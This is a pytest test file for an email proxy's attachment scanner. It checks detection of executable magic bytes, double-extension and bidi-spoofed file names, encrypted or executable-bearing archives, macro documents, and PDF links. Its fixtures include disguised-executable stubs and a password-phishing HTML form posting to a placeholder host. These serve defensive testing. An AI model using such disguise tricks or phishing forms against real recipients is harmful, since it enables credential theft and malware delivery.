"""Attachment signals: magic bytes, file-name tricks, archives, macros, HTML files."""

from __future__ import annotations

import io
import zipfile

import pytest

from popproxy.scan import attachments
from popproxy.scan.attachments import executable_kind, extensions, name_signals
from tests.scan.helpers import build, load, names, scan

PE = b"MZ" + b"\x00" * 62 + b"PE\x00\x00"


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (PE, "windows-pe"),
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 9, "elf"),
        (b"\xcf\xfa\xed\xfe" + b"\x00" * 12, "mach-o"),
        (b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 8, "windows-lnk"),
        (b"\x00" * 0x8001 + b"CD001", "iso9660"),
        (b"MZ short", None),
        (b"%PDF-1.7", None),
    ],
)
def test_executable_magic(data: bytes, kind: str | None) -> None:
    assert executable_kind(data) == kind


def test_file_name_tricks() -> None:
    assert extensions("Invoice.PDF   .exe") == ["pdf", "exe"]
    assert {s.name for s in name_signals("invoice.pdf.exe")} == {"attach-double-ext"}
    assert {s.name for s in name_signals("setup.js")} == {"attach-risky-ext"}
    assert {s.name for s in name_signals("photo\u202egpj.exe")} == {
        "attach-bidi-name",
        "attach-risky-ext",
    }
    assert name_signals("report.pdf") == []


def test_executable_attachment_file() -> None:
    verdict = scan(load("attach_exe.eml"))
    assert {"attach-executable", "attach-double-ext"} <= names(verdict)
    assert verdict.action in ("defang", "quarantine")


def test_disguised_executable_by_magic() -> None:
    msg = build(attachments=(("holiday.jpg", PE, "image/jpeg"),))
    assert "attach-executable" in names(scan(msg))


def test_an_opaque_bin_is_judged_by_its_bytes_not_its_name() -> None:
    """A firmware image or data file named .bin is whatever its bytes are: benign bytes pass
    (a 28 MB one, over the scan size cap, was quarantined on its name alone), a program
    inside is still caught by its magic."""
    assert name_signals("firmware.bin") == []
    benign = scan(build(attachments=(("firmware.bin", bytes(range(256)) * 64,
                                      "application/octet-stream"),)))
    assert benign.action == "pass" and not benign.signals
    program = scan(build(attachments=(("firmware.bin", PE + b"\x00" * 1024,
                                       "application/octet-stream"),)))
    assert "attach-executable" in names(program) and program.action != "pass"


def _zip(members: dict[str, bytes], encrypted: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    raw = bytearray(buf.getvalue())
    if encrypted:
        # zipfile cannot write encrypted members; set general-purpose flag bit 0 (APPNOTE
        # 4.4.4) in the local and central headers, which is what readers check.
        for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            pos = raw.find(sig)
            while pos != -1:
                raw[pos + offset] |= 0x01
                pos = raw.find(sig, pos + 4)
    return bytes(raw)


def test_encrypted_zip() -> None:
    archive = _zip({"a.txt": b"x"}, encrypted=True)
    msg = build(attachments=(("docs.zip", archive, "application/zip"),))
    assert "attach-encrypted-archive" in names(scan(msg))


def test_zip_with_executable_inside() -> None:
    msg = build(attachments=(("docs.zip", _zip({"docs/invoice.pdf.exe": PE}), "application/zip"),))
    assert "attach-archive-executable" in names(scan(msg))


def test_opaque_archive() -> None:
    msg = build(attachments=(("x.7z", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 20, "application/x-7z"),))
    assert "attach-opaque-archive" in names(scan(msg))


def test_ole_document_goes_to_olevba(monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[bytes] = []

    def fake(filename: str, data: bytes) -> bool:
        seen.append(data)
        return True

    monkeypatch.setattr(attachments, "has_vba_macros", fake)
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    msg = build(attachments=(("budget.xls", ole, "application/vnd.ms-excel"),))
    assert "attach-macro" in names(scan(msg))
    assert seen == [ole]


def test_html_attachment_with_form() -> None:
    page = b'<html><form action="https://evil.test/p"><input type="password"></form></html>'
    msg = build(attachments=(("Invoice.html", page, "text/html"),))
    got = names(scan(msg))
    assert {"attach-html", "attach-html-form"} <= got


def test_pdf_uri_links_are_analysed() -> None:
    pdf = b"%PDF-1.4\n1 0 obj << /A << /S /URI /URI (http://198.51.100.9/x) >> >>\nendobj\n"
    msg = build(attachments=(("scan.pdf", pdf, "application/pdf"),))
    assert "link-ip-host" in names(scan(msg))
